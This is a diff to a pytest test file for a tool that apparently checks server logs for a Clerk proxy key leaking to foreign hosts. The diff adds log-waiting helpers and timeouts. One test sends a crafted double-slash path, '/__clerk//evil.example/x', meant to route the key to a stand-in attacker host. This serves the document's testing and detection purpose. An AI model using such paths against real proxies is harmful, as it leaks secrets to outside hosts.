@@ -12,7 +12,7 @@ from typing import Any
 
 import orjson
 import pytest
-from wire import Backend, Sent
+from wire import TIMEOUT, Backend, Sent, wait_for
 
 TIMED = """'$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" '
           '"$http_user_agent" "$http_x_forwarded_for" host=$host rt=$request_time uct="$upstream_connect_time" '
@@ -52,6 +52,10 @@ class Application:
     log: Path
     record: Path
 
+    def wait_for_log(self, requests: int) -> None:
+        """Wait until as many requests are logged to their end: the line is written after the answer."""
+        wait_for(lambda: self.log.read_bytes().count(b'"request completed"') >= requests, "the application's log")
+
     def key_sent_to(self) -> list[str]:
         """Return the foreign hosts that got the key, in order; Clerk's own is not one."""
         rows = [orjson.loads(line) for line in self.record.read_bytes().splitlines()] if self.record.exists() else []
@@ -72,7 +76,7 @@ def application(node_packages: Path, real_part: Callable[[str], str], tmp_path: 
         yield Application(port, log, record)
     finally:
         process.terminate()
-        process.wait(timeout=20)
+        process.wait(TIMEOUT)
         process.stdout.close()
 
 
@@ -110,6 +114,7 @@ def test_the_hosts_found_are_those_that_got_the_key(nginx: Callable[..., Any], a
     assert hosts(report) == leaks
     assert [row["rule_id"] for row in report["findings"] if row["target_host"] == "v1"] == ["client-double-slash"]
 
+    application.wait_for_log(len(REQUESTS) - 1)
     code, report = analyze(folder, "timed.log", "app.log")
     assert (code, report["verdict"]) == (1, "key-exposed")
     assert sum(incident["events"] for incident in report["incidents"]) == len(leaks)
@@ -129,6 +134,7 @@ def test_a_server_that_merges_slashes_before_it_forwards_is_seen_by_the_log_behi
         server.send(Sent(b"/__clerk/v1/client"))
     server.send(Sent(b"/__clerk//evil.example/x"))
     folder = server.stop()
+    application.wait_for_log(4)
     assert application.key_sent_to() == []
     assert analyze(folder, "timed.log")[1]["verdict"] == "key-exposed"
     # The application logged `/__clerk/evil.example/x` and no request that leaks.
